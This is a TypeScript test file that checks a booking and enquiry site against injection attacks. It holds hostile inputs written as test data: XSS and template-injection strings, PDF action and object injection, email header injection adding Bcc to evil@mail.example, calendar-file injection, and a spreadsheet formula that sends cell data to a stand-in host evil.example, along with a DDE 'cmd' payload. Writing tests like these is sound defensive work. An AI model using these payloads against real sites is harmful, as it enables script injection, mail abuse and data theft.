import { expect } from 'vitest'
import { readPdf } from '#tests/support/read-pdf.ts'
import { attack } from './attack.ts'
import type { Site } from './site.ts'
import { aForm, type Booked, book, openSession } from './victim.ts'

const names = [
  ['a script', '<script>alert(1)</script>'],
  ['a picture that fails', '<img src=x onerror=alert(1)>'],
  ['the end of an attribute', '"><svg onload=alert(1)>'],
  ['the end of a comment and of a title', '--></title></style><iframe src=javascript:alert(1)>'],
  ['a template of the page', '{{constructor.constructor("alert(1)")()}}'],
  ['a template of the message', '##LINK## ${917*911} <%= 917*911 %> #{917*911}'],
] as const

type Mail = { subject: string; body_text: string; body_html: string; recipient: string }
const mailsAbout = ({ rows }: Site, { booking }: Booked) =>
  rows<Mail>("select subject, body_text, body_html, recipient from messages where key like $1 and channel = 'email'", [
    `%${booking.id}`,
  ])

/** Every tag with its attributes in a text of markup: nothing that was typed may be among them. */
const tagsOf = (html: string) => [...html.matchAll(/<[^>]*>/g)].map(([tag]) => tag).join('\n')

const contact = { name: 'Asha Menon', email: 'asha@mail.example', message: 'A question about sessions.' }

async function ask(site: Site, fields: Record<string, string>) {
  const answer = await site.browser().multipart('/enquiries/contact', { ...contact, ...fields })
  const [row] = await site.rows<{ id: string }>('select id from enquiries where reference = $1', [
    answer.json?.reference,
  ])
  const mails = await site.rows<Mail>(
    'select subject, body_text, body_html, recipient from messages where key like $1 order by key',
    [`enquiry%:${row?.id}`],
  )
  return { answer, mails }
}

export const markupAttacks = [
  ...names.map(([what, name]) =>
    attack(
      `A client named like ${what} is only a name: in the mail, on their pages and in the copy of their data.`,
      async (site) => {
        const booked = await book(site, {
          form: { Fullname: name, Concerns: name, Age: 9, Guardian_Details: { Name: name, Relation: 'Mother' } },
        })
        const [mail] = await mailsAbout(site, booked)
        expect(tagsOf(mail?.body_html ?? '')).not.toMatch(/script|onerror|onload|iframe|alert/i)
        expect(mail?.body_html).not.toMatch(/835387|\[object/)
        expect(mail?.subject).not.toContain(name)
        const browser = await openSession(site, booked)
        for (const path of ['/manage', '/manage/data', '/manage/cancel'])
          expect(tagsOf((await browser.open(path)).text)).not.toMatch(/alert\(1\)/)
        const copy = await browser.form('/manage/data.html', {})
        expect(tagsOf(copy.text)).not.toMatch(/script|onerror|onload|iframe|alert/i)
        expect(copy.headers['content-disposition']).toBe('attachment; filename="embrace-my-data.html"')
      },
    ),
  ),

  attack(
    'A name that would end a text in the invoice’s file is printed as it was typed, and the file stays whole.',
    async (site) => {
      const name = 'Meera) Tj /F1 9 Tf (INVOICE PAID 0) Tj \\ endstream endobj'
      const booked = await book(site, { form: { Fullname: name } })
      const { bytes, headers } = await (await openSession(site, booked)).get('/manage/invoice.pdf')
      expect(headers['content-type']).toBe('application/pdf')
      const { marks } = readPdf(bytes)
      expect(
        marks
          .map(({ words }) => words)
          .join(' ')
          .replace(/\s+/g, ' '),
      ).toContain('endstream endobj')
      expect(bytes.toString('latin1').match(/%%EOF/g)).toHaveLength(1)
    },
  ),

  attack('A script in the name is nowhere in the invoice’s file as an action.', async (site) => {
    const booked = await book(site, { form: { Fullname: '/JS (app.alert(1)) /OpenAction /Launch' } })
    const { bytes } = await (await openSession(site, booked)).get('/manage/invoice.pdf')
    const { root, pages } = readPdf(bytes)
    expect([root, ...pages].join('\n')).not.toMatch(/\/(JS|JavaScript|OpenAction|Launch|AA)\b/)
  }),

  ...(
    [
      ['a line break', 'meera@mail.example\r\nBcc: evil@mail.example'],
      ['a bare line feed', 'meera@mail.example\nBcc: evil@mail.example'],
      ['an encoded line break', 'meera@mail.example%0d%0aBcc:evil@mail.example'],
      ['a second address', 'meera@mail.example,evil@mail.example'],
      ['a name around it', 'Meera <evil@mail.example>'],
      ['a comment', 'meera(evil@mail.example)@mail.example'],
      ['a quoted second address', '"evil@mail.example"@mail.example'],
      ['a unicode line separator', 'meera\u2028@mail.example'],
    ] as const
  ).map(([what, Email]) =>
    attack(`A mail address with ${what} in it gets no mail sent to anybody else.`, async (site) => {
      const { status } = await site.browser().call('user/add-patient', aForm({ Email }))
      expect(status).toBe(422)
      const { answer } = await ask(site, { email: Email })
      expect(answer.status === 422 || !(await site.deliver()).some(({ to }) => to.includes('evil'))).toBe(true)
      expect((await site.deliver()).some(({ to }) => to.includes('evil'))).toBe(false)
    }),
  ),

  ...(['name', 'message', 'phone', 'topic'] as const).map((field) =>
    attack(`Headers in the ${field} of an enquiry are words of its text, not headers of our mail.`, async (site) => {
      const { answer, mails } = await ask(site, {
        [field]: `Asha\r\nBcc: evil@mail.example\r\nSubject: You have won\r\n\r\n<b>hi</b>`,
      })
      if (answer.status !== 201) return expect(answer.status).toBe(422)
      const sent = (await site.deliver()).filter(({ channel }) => channel === 'email')
      expect(sent.some(({ to }) => to.includes('evil'))).toBe(false)
      for (const { subject } of mails) expect(subject).not.toMatch(/won|\r|\n/)
      expect(sent.some(({ subject }) => subject === 'You have won')).toBe(false)
    }),
  ),

  attack('Markup in an enquiry reaches the people who answer it as text.', async (site) => {
    const evil = '<script>alert(1)</script><img src=x onerror=alert(1)>'
    const { mails } = await ask(site, { name: evil, message: evil })
    expect(mails).toHaveLength(2)
    for (const { body_html } of mails) expect(tagsOf(body_html)).not.toMatch(/script|onerror/)
  }),

  attack('Our acknowledgement carries no word of the sender to whoever’s address they have typed.', async (site) => {
    const { mails } = await ask(site, {
      name: 'Cheap pills at evil.example',
      message: 'Buy at https://evil.example now',
      email: 'victim@mail.example',
    })
    const acknowledgement = mails.find(({ recipient }) => recipient === 'victim@mail.example')
    expect(`${acknowledgement?.subject}${acknowledgement?.body_text}${acknowledgement?.body_html}`).not.toMatch(
      /pills|evil/,
    )
  }),

  attack(
    'What was typed comes back to a browser without scripts as text, between the quotes of its own field.',
    async (site) => {
      const evil = '"><script>alert(1)</script><a href="'
      const browser = site.browser()
      const { text, status } = await browser.multipart(
        '/enquiries/contact',
        { name: evil, email: evil, message: evil, topic: evil },
        { accept: 'text/html', 'sec-fetch-dest': 'document' },
      )
      expect(status).toBe(422)
      expect(text).not.toContain('<script>alert(1)')
      expect(text).toContain('&quot;&gt;&lt;script&gt;')
    },
  ),

  attack(
    'Formulas in names and questions stay words: nothing of ours makes a table that a program would reckon with.',
    async (site) => {
      const { mails } = await ask(site, {
        name: '=HYPERLINK("http://evil.example?x="&A1,"click")',
        message: "@SUM(1+1)*cmd|'/C calc'!A0",
      })
      for (const { body_html } of mails) expect(tagsOf(body_html)).not.toContain('evil')
      const attached = await site.rows<{ content_type: string }>(
        'select distinct content_type from message_attachments',
      )
      expect(attached.map(({ content_type }) => content_type).filter((type) => /csv|excel|sheet/.test(type))).toEqual(
        [],
      )
    },
  ),

  ...(
    [
      ['line breaks', 'Meera\r\nATTENDEE:mailto:evil@mail.example\r\nBEGIN:VEVENT'],
      ['commas and semicolons', 'Meera;CN=Evil,mailto:evil@mail.example'],
      ['a folded line', 'Meera\r\n SUMMARY:Evil'],
    ] as const
  ).map(([what, Fullname]) =>
    attack(`A name with ${what} adds nothing to the invitation that travels with the mail.`, async (site) => {
      const booked = await book(site, { form: { Fullname, Concerns: Fullname } })
      const [file] = await site.rows<{ content: Buffer }>(
        "select content from message_attachments a join messages m on m.id = a.message_id where m.key = $1 and content_type = 'text/calendar'",
        [`booking-confirmed:${booked.booking.id}`],
      )
      const text = file?.content.toString().replaceAll('\r\n ', '') ?? ''
      expect(text.match(/BEGIN:VEVENT/g)).toHaveLength(1)
      expect(text.match(/^ATTENDEE/gm)).toHaveLength(1)
      expect(text.replace(/^ATTENDEE.*meera\.iyer@mail\.example\r$/m, '')).not.toMatch(/evil|Meera/i)
    }),
  ),

  ...(
    [
      ['a category', '/userListing?category='],
      ['a practitioner', '/practitioner?pid='],
      ['a time', '/appointment?pid=101&lid=1&v=1&t='],
      ['a client', '/appointment/confirmation?pid=101&v=1&t=2030-06-05T10:00:00%2B0530&u='],
      ['a problem', '/manage?problem='],
      ['a reference', '/enquiries/contact?sent='],
      ['an address that is not there', '/'],
    ] as const
  ).map(([what, address]) =>
    attack(`A script in an address, in place of ${what}, is written nowhere into the page as markup.`, async (site) => {
      for (const evil of [
        '"><script>alert(7)</script>',
        "'-alert(7)-'",
        '</script><script>alert(7)</script>',
        'javascript:alert(7)',
      ]) {
        const { text, headers } = await site.browser().open(address + encodeURIComponent(evil))
        expect(text).not.toMatch(/<script[^>]*>alert\(7\)/)
        expect(tagsOf(text)).not.toMatch(/(href|src|action)="javascript:/)
        expect(headers['content-security-policy']).not.toMatch(/script-src[^;]*'unsafe-inline'/)
      }
    }),
  ),
]
